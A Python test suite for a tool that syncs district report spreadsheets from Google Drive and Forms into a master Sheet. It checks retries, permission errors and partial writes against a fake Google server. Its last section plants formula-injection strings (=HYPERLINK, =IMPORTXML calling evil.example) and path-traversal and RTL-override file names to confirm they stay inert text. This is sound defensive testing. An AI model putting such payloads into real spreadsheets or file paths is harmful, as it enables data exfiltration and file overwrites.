"""Faults from Google, against the fake (real googleapiclient and gspread over loopback HTTP):
transient errors are retried within the bounded policy (delays recorded, not slept), a
permission error stops the run with a clear message and no retry, a file deleted between
list and download is skipped and logged, and a Sheets write that fails halfway leaves the
state where it was so the next run converges to the clean master.
"""

from __future__ import annotations

import io
import logging
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from gsync.errors import SinkError, SourceError
from gsync.testing import FakeGoogle

from .google_support import Province, comparable, google_province, google_run, sheet_tabs
from .support import Crash, Tabs, cli, crash_at, data_rows, measure, report_xlsx, unique_keys

NOW = "2025-04-20T09:00:00+07:00"


@pytest.fixture(scope="module")
def google_reference(tmp_path_factory: pytest.TempPathFactory) -> Tabs:
    """The demo province synced cleanly through the fake: the master every faulted run must equal."""
    fake = FakeGoogle()
    with fake.serve() as base_url:
        p = google_province(fake, base_url, tmp_path_factory.mktemp("google-ref"))
        google_run(p)
        return comparable(sheet_tabs(p))


@pytest.fixture()
def gp(google_server: tuple[Any, str], tmp_path: Path) -> Province:
    fake, base_url = google_server
    return google_province(fake, base_url, tmp_path)


def file_id(p: Province, rel: str) -> str:
    return str(p.ids["files"][rel])


def master(p: Province) -> Tabs:
    t = comparable(sheet_tabs(p))
    unique_keys(t)
    return t


# --- transient faults: retried, then the clean master ---------------------------------------

REPORT = "เสริมงาม/Q1.xlsx"

TRANSIENT: dict[str, tuple[str, dict[str, Any], list[float]]] = {
    # label: (what to match, inject kwargs, expected recorded delays; rng is fixed at 0.5, base 1 s)
    "429 with Retry-After: 7 (Drive files.list)": (r"^drive\.files\.list$", {"status": 429, "retry_after": "7", "times": 2}, [7.0, 7.0]),
    "429 without Retry-After (Sheets values.batchUpdate)": (r"^sheets\.spreadsheets\.values\.batchUpdate$", {"status": 429, "times": 2}, [0.75, 1.5]),
    "500 (Forms responses.list)": (r"^forms\.forms\.responses\.list$", {"status": 500, "times": 2}, [0.75, 1.5]),
    "503 (Sheets spreadsheets.get)": (r"^sheets\.spreadsheets\.get$", {"status": 503, "times": 3}, [0.75, 1.5, 3.0]),
    "503 with Retry-After: 120 (Forms forms.get)": (r"^forms\.forms\.get$", {"status": 503, "retry_after": "120"}, [120.0]),
    "403 rateLimitExceeded (Drive download)": ("FILE", {"status": 403, "reason": "rateLimitExceeded", "times": 2}, [0.75, 1.5]),
    "403 userRateLimitExceeded (Sheets batchUpdate)": (r"^sheets\.spreadsheets\.batchUpdate$", {"status": 403, "reason": "userRateLimitExceeded"}, [0.75]),
    # httplib2 itself reconnects once, at once, when a kept-alive connection drops: no backoff
    "connection dropped before the answer (Drive download)": ("FILE", {"drop": True}, []),
    "connection dropped mid-download (100 bytes of the file)": ("FILE", {"after_bytes": 100}, [0.75]),
    "timeout (Drive download answers after 3 s, client timeout 0.5 s)": ("FILE", {"delay": 3.0}, [0.75]),
}


@pytest.mark.parametrize("label", list(TRANSIENT))
def test_transient_fault_is_retried_and_the_master_is_clean(label: str, gp: Province, google_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    match, kwargs, delays = TRANSIENT[label]
    if match == "FILE":  # only the media download of one report (its path has the file id)
        match = f"/drive/v3/files/{re.escape(file_id(gp, REPORT))}$"
    fault = gp.fake.inject(match, **kwargs)
    tcp = bool(kwargs.get("delay") or kwargs.get("drop") or kwargs.get("after_bytes"))  # socket-level faults
    result = google_run(gp, timeout=0.5 if kwargs.get("delay") else None, transport="tcp" if tcp else "inprocess")
    assert fault.hits == fault.times, "the fault was never hit"
    assert gp.sleeps == delays
    assert result.accounting.retries == len(delays)
    assert gp.fake.count(re.sub(r"[\\^$]", "", match)) >= fault.times + 1 or match.startswith("/")
    got = master(gp)
    lost, dup = measure(google_reference, got)
    waits = ", ".join(f"{d:g} s" for d in delays)
    measured("google", label, runs=1, lost=lost, duplicated=dup,
             outcome=(f"retried after {waits} (recorded)" if delays else "httplib2 reconnected at once (no backoff)")
             + "; clean master")
    assert got == google_reference
    assert (lost, dup) == (0, 0)


def test_retries_are_bounded(gp: Province) -> None:
    """A Google that never recovers: the policy gives up after max_attempts, the run fails with
    a message, nothing is written and the state stays where it was."""
    gp.fake.inject(r"^drive\.files\.list$", status=503, times=100)
    with pytest.raises(SourceError, match="run gsync again later"):
        google_run(gp, max_attempts=4)
    assert gp.sleeps == [0.75, 1.5, 3.0]
    assert gp.fake.count("drive.files.list") == 4
    assert gp.fake.count("sheets.spreadsheets.values.batchUpdate") == 0


# --- permission errors: clear, exit 1, no retry --------------------------------------------


def _revoke_folder(p: Province) -> str:
    p.fake.revoke_access(p.ids["folder_id"])
    return "drive.files.get"


def _revoke_sheet(p: Province) -> str:
    p.fake.revoke_access(p.sid)
    return "sheets.spreadsheets"


def _forbid_download(p: Province) -> str:
    p.fake.inject(f"/drive/v3/files/{re.escape(file_id(p, REPORT))}$", status=403, reason="insufficientFilePermissions",
                  times=10, message="The user does not have sufficient permissions for this file.")
    return "FILE"


PERMISSION = {
    "QR folder not shared with gsync (Drive 404)": (_revoke_folder, "share the folder with"),
    "master Sheet not shared (Sheets 403 PERMISSION_DENIED)": (_revoke_sheet, "as Editor"),
    "one file not readable (Drive 403 insufficientFilePermissions)": (_forbid_download, "permission denied"),
}


@pytest.mark.parametrize("label", list(PERMISSION))
def test_permission_denied_is_clear_exit_1_and_not_retried(label: str, gp: Province, google_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    revoke, words = PERMISSION[label]
    revoke(gp)
    gp.fake.reset_log()
    code, out, err = cli("sync", "--config", str(gp.settings.source_file), "--now", NOW)
    assert code == 1, (out, err)
    assert words in err and "Traceback" not in err, err
    denied = [c for c in gp.fake.requests if c.status in (403, 404)]
    assert len(denied) == 1, [(c.id, c.status) for c in gp.fake.requests]  # not retried
    assert gp.fake.count("sheets.spreadsheets.values.batchUpdate") == 0
    # access restored (the operator shares it): the next run is a clean first run
    gp.fake.clear_faults()
    gp.fake.restore_access(gp.ids["folder_id"])
    gp.fake.restore_access(gp.sid)
    google_run(gp)
    got = master(gp)
    lost, dup = measure(google_reference, got)
    measured("google", label, runs=2, lost=lost, duplicated=dup,
             outcome="exit 1 with what to share with whom, no retry; after sharing, the clean master")
    assert got == google_reference
    assert (lost, dup) == (0, 0)


# --- a file deleted between list and download --------------------------------------------------


def test_file_deleted_between_list_and_download_is_skipped_and_logged(gp: Province, google_reference: Tabs, measured, caplog) -> None:  # type: ignore[no-untyped-def]
    victim = file_id(gp, REPORT)

    def hook(stage: str) -> None:
        if stage == "read":  # listed, not yet downloaded: the district deletes it now
            gp.fake.drive_delete(victim)

    with caplog.at_level(logging.WARNING):
        result = google_run(gp, hook=hook)
    assert result.gone == ["Q1.xlsx"]
    assert any("deleted before it could be read" in r.getMessage() for r in caplog.records)
    assert any(c.status == 404 for c in gp.fake.calls("drive.files.get"))
    got = master(gp)
    district = lambda title, row: "เสริมงาม" not in row  # noqa: E731 - its only report is gone
    lost, dup = measure(google_reference, got, keep=lambda title, r: district(title, r) and title != "อัตราการส่ง")
    measured("google", "404: a file deleted between list and download", runs=2, lost=lost, duplicated=dup,
             outcome="run goes on; file skipped and logged; other districts as clean")
    assert (lost, dup) == (0, 0)
    # the next run agrees with Drive: the file is gone, nothing is retried or duplicated
    again = google_run(gp)
    assert again.gone == []
    assert master(gp) == got


# --- a Sheets write that fails halfway ------------------------------------------------------


def scenario_changes(p: Province) -> None:
    """Between the first run and the run under test: a staff note, a new report, a deleted one
    (so the write both adds and removes rows: values.batchUpdate and values.batchClear)."""
    t = sheet_tabs(p)
    reports = t["รายงาน"]
    head = list(reports[0])
    row = next(i for i, r in enumerate(reports) if r and r[0] == "เสริมงาม|Q1")
    col = head.index("หมายเหตุเจ้าหน้าที่")
    p.fake.sheet_set_cell(p.sid, "รายงาน", f"{chr(65 + col)}{row + 1}", "โทรตามแล้ว 21 ธ.ค.")
    root = p.ids["folder_id"]
    p.fake.drive_add_file("แจ้ห่ม ไตรมาส 1.xlsx", report_xlsx("แจ้ห่ม", 1, 61), root,
                          created_time="2024-12-12T03:00:00Z")
    p.fake.drive_delete(file_id(p, "แม่เมาะ ไตรมาส2.xlsx"))
    p.fake.drive_delete(file_id(p, "เถิน/ไตรมาส 1/รายงาน.xlsx"))  # fewer rows and problems: a clear


@pytest.fixture(scope="module")
def scenario_reference(tmp_path_factory: pytest.TempPathFactory) -> Tabs:
    fake = FakeGoogle()
    with fake.serve() as base_url:
        p = google_province(fake, base_url, tmp_path_factory.mktemp("google-scenario"))
        google_run(p)
        scenario_changes(p)
        google_run(p)
        return comparable(sheet_tabs(p))


HALFWAY = {
    "values.batchUpdate fails after the layout was written (503 on every attempt)":
        (r"^sheets\.spreadsheets\.values\.batchUpdate$", {"status": 503, "times": 100}),
    "values.batchClear fails after the new rows were written (500 on every attempt)":
        (r"^sheets\.spreadsheets\.values\.batchClear$", {"status": 500, "times": 100}),
    "connection dropped on every values.batchClear": (r"^sheets\.spreadsheets\.values\.batchClear$", {"drop": True, "times": 100}),
}


@pytest.mark.parametrize("label", [
    "values.batchUpdate fails after the layout was written (503 on every attempt)",
    pytest.param("values.batchClear fails after the new rows were written (500 on every attempt)"),
    pytest.param("connection dropped on every values.batchClear"),
    "crash after the Sheet was written, before the state was saved",
])
def test_sheets_write_failing_halfway_then_next_run_converges(label: str, gp: Province, scenario_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    google_run(gp)
    scenario_changes(gp)
    state_before = gp.settings.state.path.read_bytes()
    if label in HALFWAY:
        match, kwargs = HALFWAY[label]
        gp.fake.inject(match, **kwargs)
        with pytest.raises(SinkError, match="run again"):
            google_run(gp, max_attempts=3)
        assert gp.fake.count(match.strip("^$").replace("\\", "")) >= 3
    else:
        with pytest.raises(Crash):
            google_run(gp, hook=crash_at("after_write"))
    assert gp.settings.state.path.read_bytes() == state_before  # nothing committed
    gp.fake.clear_faults()
    google_run(gp)
    got = comparable(sheet_tabs(gp))
    lost, dup = measure(scenario_reference, got)
    measured("google", f"Sheets write fails halfway: {label}", runs=2, lost=lost, duplicated=dup,
             outcome="state not advanced; next run equals the clean master, staff note kept")
    unique_keys(got)
    assert got == scenario_reference
    note_row = next(r for r in data_rows(got["รายงาน"]) if r[0] == "เสริมงาม|Q1")
    assert "โทรตามแล้ว 21 ธ.ค." in note_row
    assert (lost, dup) == (0, 0)
    # converged for good: one more run writes nothing
    gp.fake.reset_log()
    google_run(gp)
    assert gp.fake.count("sheets.spreadsheets.values.batchUpdate") == 0


def test_expired_token_mid_run_is_refreshed(gp: Province, google_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    def hook(stage: str) -> None:
        if stage == "parsed":
            gp.fake.expire_tokens()  # every access token dies between the reads and the write

    google_run(gp, hook=hook)
    # the first request after the reads meets the dead token: on a cold master, the write of its
    # layout (a run that read the master itself asks Drive nothing before writing), refreshed
    # like any other
    assert gp.fake.count("sheets.spreadsheets.batchUpdate", status=401) == 1
    got = master(gp)
    lost, dup = measure(google_reference, got)
    measured("google", "access token expired mid-run (401)", runs=1, lost=lost, duplicated=dup,
             outcome="refreshed and written; clean master")
    assert got == google_reference


# --- formula injection, Form conflicts, odd Drive names -----------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example","click")'
IMPORTXML = '=IMPORTXML("http://evil.example","//a")'


def _evil_xlsx() -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(report_xlsx("แจ้ห่ม", 1, 62)))
    ws = wb.active
    head = next(r for r in ws.iter_rows() if any(c.value == "สถานที่ดำเนินการ" for c in r))
    cols = {c.value: c.column for c in head}
    row = head[0].row + 1
    for title, text in (("สถานที่ดำเนินการ", HYPERLINK), ("ผลการดำเนินงาน", IMPORTXML)):
        cell = ws.cell(row=row, column=cols[title])
        cell.value = text
        cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_text_stays_text_in_the_google_sheet(gp: Province, google_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    folder = gp.fake.drive_add_folder("แจ้ห่ม", gp.ids["folder_id"], created_time="2024-12-01T03:00:00Z")
    gp.fake.drive_add_file("ไตรมาส 1 แจ้ห่ม.xlsx", _evil_xlsx(), folder, created_time="2024-12-10T03:00:00Z")
    qids = gp.ids["question_ids"]
    gp.fake.forms_add_response(gp.ids["form_id"], {
        qids["อำเภอ"]: "แจ้ห่ม", qids["ไตรมาส"]: "ไตรมาสที่ 1 (ต.ค. - ธ.ค. 2567)",
        qids["ชื่อ-สกุล ผู้รายงาน"]: IMPORTXML, qids["ปัญหา/อุปสรรค"]: HYPERLINK,
    }, create_time="2024-12-10T03:05:00Z")
    google_run(gp)
    book = gp.fake.sheets.book(gp.sid)
    formulas = {s.props["title"]: gp.fake.sheet_formulas(gp.sid, s.props["title"]) for s in book.sheets}
    assert not any(formulas.values()), formulas
    texts = {c for rows in sheet_tabs(gp).values() for r in rows for c in r if isinstance(c, str)}
    assert {HYPERLINK, IMPORTXML} <= texts
    writes = gp.fake.calls("sheets.spreadsheets.values.batchUpdate")
    assert writes and all(c.body.get("valueInputOption") == "RAW" for c in writes)
    lost, dup = measure(google_reference, master(gp),
                        keep=lambda title, r: "แจ้ห่ม" not in r and title not in ("แบบฟอร์ม", "อัตราการส่ง"))
    measured("formula", "=HYPERLINK / =IMPORTXML in a report and in Form answers (Google Sheet)", runs=1,
             lost=lost + len({HYPERLINK, IMPORTXML} - texts), duplicated=dup,
             outcome="written RAW; the fake records no formula in any tab; other districts unchanged")
    assert (lost, dup) == (0, 0)


def test_form_attachment_naming_another_district_is_a_conflict(gp: Province) -> None:
    uploads = gp.ids["uploads_folder_id"]
    fid = gp.fake.drive_add_file("รายงาน - นายทดสอบ.xlsx", report_xlsx("เกาะคา", 1, 63), uploads,
                                 created_time="2024-12-10T03:00:00Z")
    qids = gp.ids["question_ids"]
    gp.fake.forms_add_response(gp.ids["form_id"], {
        qids["อำเภอ"]: "แจ้ห่ม", qids["ไตรมาส"]: "ไตรมาสที่ 1 (ต.ค. - ธ.ค. 2567)",
        qids["แนบแบบรายงานผลการดำเนินงาน"]: [{"fileId": fid, "fileName": "รายงาน - นายทดสอบ.xlsx",
                                             "mimeType": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}],
    }, create_time="2024-12-10T03:05:00Z")
    result = google_run(gp)
    r = next(x for x in result.outcome.reports if x.district == "แจ้ห่ม" and x.quarter == 1)
    conflicts = [p for p in r.problems if p.code == "district_conflict"]
    assert conflicts and "เกาะคา" in conflicts[0].message and r.complete is False
    probs = sheet_tabs(gp)["ปัญหา"]
    assert any("district_conflict" in row for row in probs)
    kokha = next(x for x in result.outcome.reports if x.district == "เกาะคา" and x.quarter == 1)
    assert fid not in {f.id for f in kokha.files}  # never silently moved to the district it names


def test_drive_names_with_path_segments_and_bidi_controls(gp: Province, tmp_path: Path, google_reference: Tabs, measured) -> None:  # type: ignore[no-untyped-def]
    root = gp.ids["folder_id"]
    names = ["แจ้ห่ม ไตรมาส 1/../../../../tmp/gsync-evil.xlsx", "งาว\u202eไตรมาส 2\u202c/..\\..\\x.xlsx"]
    for i, name in enumerate(names):
        gp.fake.drive_add_file(name, report_xlsx(("แจ้ห่ม", "งาว")[i], i + 1, 64 + i), root,
                               created_time="2024-12-10T03:00:00Z")
    before = {f for f in tmp_path.rglob("*") if f.is_file()}
    result = google_run(gp)
    assert not Path("/tmp/gsync-evil.xlsx").exists()
    new = {f for f in tmp_path.rglob("*") if f.is_file()} - before
    assert all(gp.settings.state.path.parent in f.parents for f in new), new  # only gsync's own state
    got = {(r.district, r.quarter): r for r in result.outcome.reports}
    assert got[("แจ้ห่ม", 1)].timeliness == "on_time" and got[("งาว", 2)].timeliness == "on_time"
    t = master(gp)
    lost, dup = measure(google_reference, t, keep=lambda title, r: not {"แจ้ห่ม", "งาว"} & set(map(str, r)) and title != "อัตราการส่ง")
    measured("hostile", "Drive file names with ../ segments and RTL override", runs=1, lost=lost,
             duplicated=dup, outcome="names are only text: nothing opened or written by name; attributed")
    assert (lost, dup) == (0, 0)


def test_staff_accept_typed_in_the_google_sheet(gp: Province) -> None:
    google_run(gp)
    t = sheet_tabs(gp)
    tab = t["แบบฟอร์ม"]
    head = list(tab[0])
    i = next(i for i, r in enumerate(tab) if "someone@gmail.com" in r)
    col = head.index("ยอมรับผู้ส่ง (ใส่ ✓)")
    gp.fake.sheet_set_cell(gp.sid, "แบบฟอร์ม", f"{chr(65 + col)}{i + 1}", "✓")
    result = google_run(gp)
    r = next(x for x in result.outcome.reports if x.district == "แม่ทะ" and x.quarter == 1)
    assert r.timeliness == "on_time" and not [p for p in r.problems if p.code == "unauthorized_respondent"]

